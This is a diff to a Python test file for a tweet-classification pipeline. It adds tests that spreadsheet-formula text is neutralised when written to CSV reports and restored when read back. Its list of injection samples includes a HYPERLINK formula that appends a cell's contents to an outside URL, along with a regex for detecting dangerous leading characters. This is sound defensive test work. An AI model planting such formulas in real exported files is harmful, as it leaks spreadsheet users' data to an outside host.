@@ -1,12 +1,21 @@
 """Whatever is wrong with an input: one clear line that says where, exit status 1, and nothing half-written."""
 
+import csv
 import os
 import re
+import shutil
 from pathlib import Path
 
+import numpy as np
+import pandas as pd
 import pytest
 from malformed import CASES, Case
-from malformed.project import make, meet
+from malformed.project import in_process, make, meet
+from ruamel.yaml import YAML
+
+from pipeline.contracts import predictions_frame, read_prepared, write_predictions
+from pipeline.page.results import read_csv
+from pipeline.spreadsheet import as_it_was, inert
 
 
 @pytest.fixture(scope="module")
@@ -26,3 +35,46 @@ def test_malformed(case: Case, template: Path, tmp_path: Path) -> None:
     assert len(outcome.lines) == 1, outcome.stderr
     assert re.fullmatch(case.message, outcome.lines[0]), outcome.lines[0]
     assert not outcome.changed
+
+
+FORMULAS = ['=HYPERLINK("http://example.org?"&A1,"Win")', "+1+1", "-2+3", "@SUM(1)", "'=1", "\t=1", "＝1", "it's =1"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "", "'", "''=1", "\n=1"])
+def test_a_cell_that_was_made_inert_is_read_as_it_was(text: str) -> None:
+    assert as_it_was(inert(text)) == text
+    assert not re.match(r"[=+\-@＝\t\n]", inert(text))
+
+
+def test_a_formula_is_a_tweet_and_no_formula(template: Path, tmp_path: Path) -> None:
+    """Accepted as text, kept as it is, and harmless where people open it in a spreadsheet."""
+    project = tmp_path / "project"
+    shutil.copytree(template, project)
+    rows = pd.read_csv(project / "data/sample/train.csv", dtype=str)
+    rows.loc[: len(FORMULAS) - 1, "text"] = [f"{formula} storm{n}" for n, formula in enumerate(FORMULAS)]
+    rows.loc[0, ["keyword", "location"]] = "=1+1"
+    rows.to_csv(project / "data/sample/train.csv", index=False)
+    yaml = YAML()
+    params = yaml.load(project / "params.yaml")
+    params["errors"] |= {"relabel": [], "min_rows": 5, "draws": 100}
+    yaml.dump(params, project / "params.yaml")
+    assert in_process(["pipeline.data.prepare"], project, tmp_path)[0] == 0
+    prepared = read_prepared(project / "data/prepared")
+    assert prepared.train["raw_text"].tolist() == rows["text"].tolist()
+    for name, school, score in (("one", "generative", 0.9), ("two", "discriminative", 0.1)):
+        frames = [
+            predictions_frame(tweets, split, np.full(len(tweets), score))
+            for split, tweets in (("train", prepared.train), ("test", prepared.test))
+        ]
+        write_predictions(name, frames, prepared, school, "refit", project / "predictions")
+    status, said = in_process(["pipeline.verdict.errors"], project, tmp_path)
+    assert status == 0, said
+    found = {}
+    for path in (project / "errors").glob("*.csv"):
+        with path.open(newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert not [cell for cell in cells if re.match(r"[=+@＝\t\r\n]|-(?![\d.]+$)", cell)], path.name
+        found[path.stem] = read_csv(path)
+    listed = set(found["disagreements"]["raw_text"])
+    assert set(rows["text"]) == listed
+    assert (found["confident_errors"]["keyword"] == "=1+1").any()
